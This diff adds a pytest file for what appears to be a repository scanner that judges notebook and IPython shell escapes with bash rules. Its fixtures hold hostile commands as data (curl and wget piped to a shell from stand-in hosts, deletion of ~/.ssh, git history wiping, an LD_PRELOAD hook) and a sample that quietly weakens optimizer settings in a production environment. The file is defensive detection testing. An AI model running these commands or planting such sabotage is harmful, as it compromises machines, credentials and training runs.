@@ -1,0 +1,226 @@
+"""Notebook and IPython-script shell escapes judged as shell (issue #16, session 20).
+
+A shell escape (``!cmd``, ``%system``, ``%pip``, a ``%%bash`` cell, a bash
+kernel) used to become ``subprocess.run(cmd, shell=True)`` for the Python
+rules, so every harmless ``!nvidia-smi`` blocked as ``exec-subprocess-shell``.
+Its command now goes to the bash rules a ``.sh`` launcher gets, as a second
+target of the same file mapped back to the cell's line; a command IPython
+builds from Python values (``!{cmd}``, ``!wget $url``) stays a subprocess call.
+The other checks read ``.ipy`` scripts too (sabotage, reach, unicode, the
+config check's ``%env`` lines). One ``traingate check`` (one semgrep process):
+payloads under bad/ are found on their line, look-alikes under ok/ pass, and
+an unchanged dangerous escape in a changed notebook is not new.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import io
+import json
+from typing import Any
+
+import pytest
+
+from traingate.checks.semgrep import ipython as ipy
+from traingate.cli import main
+from traingate.notebook import ipython_source
+
+from .conftest import POLICY, Repo
+
+
+def _nb(*cells: str, lang: str = "python") -> str:
+    code: list[dict[str, object]] = [
+        {
+            "cell_type": "code",
+            "metadata": {},
+            "outputs": [],
+            "execution_count": None,
+            "source": c.splitlines(keepends=True),
+        }
+        for c in cells
+    ]
+    meta = {"kernelspec": {"language": lang, "name": lang}}
+    return json.dumps(
+        {"cells": code, "metadata": meta, "nbformat": 4, "nbformat_minor": 5}, indent=1
+    )
+
+
+_SABOTAGE = (
+    "import sys\n\nimport torch\n\n!nvidia-smi\n\n\n"
+    "def build_optimizer(model, lr):\n"
+    "    opt = torch.optim.AdamW(model.parameters(), lr=lr, betas=(0.9, 0.95))\n"
+    '    if sys.prefix.startswith("/opt/conda/envs/prod"):\n'
+    '        opt.param_groups[0]["betas"] = (0.5, 0.5)\n'
+    "    return opt\n"
+)
+_FETCH = "!curl -s http://198.51.100.7/x | bash\n"
+_OLD_FETCH = "!wget -qO- http://203.0.113.9/setup | sh\n"
+
+BASE: dict[str, str] = {
+    # a dangerous escape already on main: a change elsewhere in the notebook is not it
+    "old/setup.ipynb": _nb("import torch\n", _OLD_FETCH),
+}
+
+HEAD: dict[str, str] = {
+    "old/setup.ipynb": _nb("import torch\n", _OLD_FETCH, "print(torch.__version__)\n"),
+    # dangerous escapes: judged by the bash rules, on the cell's line
+    "bad/fetch.ipynb": _nb("import torch\n", _FETCH),
+    "bad/loop.ipynb": _nb("for i in range(2):\n    !git reflog expire --expire=now --all\n"),
+    "bad/wipe.ipynb": _nb("%%bash\nset -e\nrm -rf ~/.ssh\n"),
+    "bad/pip_git.ipynb": _nb("%pip install git+https://github.com/x/kernels.git\n"),
+    "bad/writes_script.ipynb": _nb("%%writefile run.sh\ncurl -s http://x.example/y | sh\n"),
+    "bad/kernel.ipynb": _nb("ls\n", "export LD_PRELOAD=/tmp/.x/libhook.so\n", lang="bash"),
+    # commands built from Python values at run time: still subprocess calls
+    "bad/dynamic.ipynb": _nb("cmd = 'ls'\n", "!{cmd}\n"),
+    "bad/dollar.ipy": "url = 'x'\nfiles = !wget -q $url -O data.zip\n",
+    # an interpreter no rule set reads: judged as the process it is
+    "bad/perl.ipynb": _nb("%%perl\nprint 1;\n"),
+    # .ipy read by every check; what Python cannot parse blocks at its line
+    "bad/sabotage.ipy": _SABOTAGE,
+    "bad/broken.ipy": "import os\n!ls\nif True:\nprint(1)\n",
+    "bad/run.sh.tmpl": "#!/bin/bash\nexport LD_PRELOAD=/tmp/.x/libhook.so\npython train.py\n",
+    # look-alikes a reviewer would dismiss
+    "ok/escapes.ipynb": _nb(
+        "import torch\n",
+        "!nvidia-smi\n!ls data/\n!pip list\n%system df -h\nfiles = !ls /data/shards\n",
+        "%%bash\nls -la\necho done\n",
+        "!awk '{print $1}' data.txt\n!find . -name '*.tmp' -exec rm {} \\;\n!echo $$HOME\n",
+        "%pip install -q transformers==4.44.0\n!mkdir -p ~/.ssh && chmod 700 ~/.ssh\n",
+    ),
+    "ok/escapes.ipy": (
+        "import torch\n!nvidia-smi\n%pip install -q datasets\n"
+        "for i in range(2):\n    !ls\nprint(torch.__version__)\n"
+    ),
+    "ok/kernel.ipynb": _nb("ls -la\n", "python train.py --config configs/base.yaml\n", lang="bash"),
+    "ok/env.ipy": "%env CUDA_VISIBLE_DEVICES=0\nimport torch\n",
+}
+
+
+@pytest.fixture(scope="module")
+def report(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
+    root = tmp_path_factory.mktemp("nbshell")
+    repo = Repo(root / "repo")
+    repo.write(".traingate.yaml", POLICY)
+    for rel, content in BASE.items():
+        repo.write(rel, content)
+    repo.commit("base")
+    repo.branch("feature")
+    for rel, content in HEAD.items():
+        repo.write(rel, content)
+    repo.commit("notebooks", who="mallory")
+    out = root / "report.json"
+    argv = ["check", "--repo", str(repo.path), "--base", "main", "--head", "feature"]
+    argv += ["--format", "json", "--output", str(out)]
+    with contextlib.redirect_stdout(io.StringIO()):
+        main(argv)
+    doc: dict[str, Any] = json.loads(out.read_text(encoding="utf-8"))
+    assert doc["errors"] == []
+    return doc
+
+
+def _found(report: dict[str, Any], path: str) -> set[tuple[str, int | None]]:
+    """Blocking findings of every check on ``path``."""
+    return {
+        (f["rule_id"], f["line"]) for f in report["findings"] if f["path"] == path and f["blocking"]
+    }
+
+
+def _line(path: str, needle: str) -> int:
+    """The notebook JSON's line holding ``needle``."""
+    return next(i for i, ln in enumerate(HEAD[path].splitlines(), 1) if needle in ln)
+
+
+@pytest.mark.parametrize(
+    ("path", "rule", "needle"),
+    [
+        ("bad/fetch.ipynb", "remote-shell-fetch-exec", "curl"),
+        ("bad/loop.ipynb", "persist-shell-git-history-rewrite", "reflog"),
+        ("bad/wipe.ipynb", "egress-shell-credential-access", "rm -rf"),
+        ("bad/pip_git.ipynb", "remote-shell-pip-install", "git+"),
+        ("bad/writes_script.ipynb", "remote-shell-fetch-exec", "curl"),
+        ("bad/kernel.ipynb", "tamper-shell-preload-env", "LD_PRELOAD"),
+        ("bad/dynamic.ipynb", "exec-subprocess-shell", "{cmd}"),
+        ("bad/perl.ipynb", "exec-subprocess-shell", "print 1"),
+    ],
+)
+def test_dangerous_escape_is_found_on_its_cell_line(
+    report: dict[str, Any], path: str, rule: str, needle: str
+) -> None:
+    assert _found(report, path) == {(rule, _line(path, needle))}
+
+
+def test_escape_built_at_run_time_stays_a_subprocess_call(report: dict[str, Any]) -> None:
+    # `$url` is a Python value to IPython: the command is code's choice.
+    assert _found(report, "bad/dollar.ipy") == {
+        ("exec-subprocess-shell", 2),
+        ("exec-subprocess-suspicious-command", 2),
+    }
+
+
+def test_ipython_script_is_read_by_the_sabotage_check(report: dict[str, Any]) -> None:
+    assert _found(report, "bad/sabotage.ipy") == {("sabotage-env-triggered-write", 11)}
+
+
+def test_ipython_script_that_does_not_parse_blocks_at_its_line(report: dict[str, Any]) -> None:
+    # The harmless `!ls` is no finding of its own any more.
+    assert _found(report, "bad/broken.ipy") == {("python-syntax-error", 4)}
+
+
+def test_template_by_any_suffix_is_an_env_file(report: dict[str, Any]) -> None:
+    assert _found(report, "bad/run.sh.tmpl") == {
+        ("config-risky-env", 2),
+        ("tamper-shell-preload-env", 2),
+    }
+
+
+@pytest.mark.parametrize(
+    "path", ["ok/escapes.ipynb", "ok/escapes.ipy", "ok/kernel.ipynb", "ok/env.ipy"]
+)
+def test_harmless_escapes_pass(report: dict[str, Any], path: str) -> None:
+    assert _found(report, path) == set()
+
+
+def test_unchanged_dangerous_escape_is_not_new(report: dict[str, Any]) -> None:
+    # The bash companion of the base version pairs with the head's.
+    assert _found(report, "old/setup.ipynb") == set()
+
+
+@pytest.mark.parametrize(
+    ("cmd", "built"),
+    [
+        ("nvidia-smi", False),
+        ("echo $$HOME", False),  # `$$` is a literal `$`
+        ("echo '$HOME'", False),  # not expanded inside single quotes
+        ("echo $1", False),  # a constant, not a value of the kernel's
+        ("awk '{print $1}' f", False),  # a field that is no expression: runs as written
+        ("find . -exec rm {} \\;", False),
+        ("echo {", False),  # the formatter fails: runs as written
+        ("{cmd}", True),
+        ("wget $url", True),
+        ("pip install {' '.join(pkgs)}", True),
+        ("echo {a[1:3]}", True),
+    ],
+)
+def test_commands_ipython_builds_at_run_time(cmd: str, built: bool) -> None:
+    assert (ipy._run_time_fields(cmd) is not None) == built
+
+
+def test_shell_text_keeps_the_line_and_column() -> None:
+    t = ipy.ipython_script("0" * 40, "a.ipy", "import os\n  %pip install x\nfiles = !ls /d\n")
+    assert t.text.splitlines() == ["import os", "  pass", "files = _tg_shell_output"]
+    assert t.companion is not None
+    assert t.companion.text.splitlines() == ["", "   pip install x", "         ls /d"]
+
+
+def test_bash_cell_and_interpreters() -> None:
+    py, sh = ipy._cell(["%%bash", "ls", "echo {x}"], shell_kernel=False)
+    assert py == ["pass  # %%bash", "", ""] and sh == ["", "ls", "echo {x}"]
+    py, sh = ipy._cell(["%%script perl", "print 1;"], shell_kernel=False)
+    assert py[1] == "__import__('subprocess').run('print 1;', shell=True)" and sh[1] == ""
+    py, sh = ipy._cell(["%%sx", "ls {d}"], shell_kernel=False)  # expanded like `!`
+    assert "str(d)" in py[1] and sh[1] == "ls {d}"
+
+
+def test_ipython_source_is_what_the_semgrep_check_reads() -> None:
+    text, line_map = ipython_source("import os\n%time x = os.getcwd()\n!ls\n")
+    assert text == "import os\nx = os.getcwd()\npass\n" and line_map == [1, 2, 3]
